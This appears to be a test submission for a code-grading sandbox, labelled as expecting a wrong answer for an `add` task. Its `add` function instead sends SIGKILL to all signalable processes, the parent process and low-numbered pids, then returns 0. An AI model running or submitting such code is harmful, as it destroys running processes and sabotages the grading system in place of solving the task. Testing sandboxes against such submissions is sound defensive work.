# expect: wrong answer
# tests: add
import os, signal

def add(a, b):
    for pid in [-1, os.getppid()] + list(range(1, 64)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 0
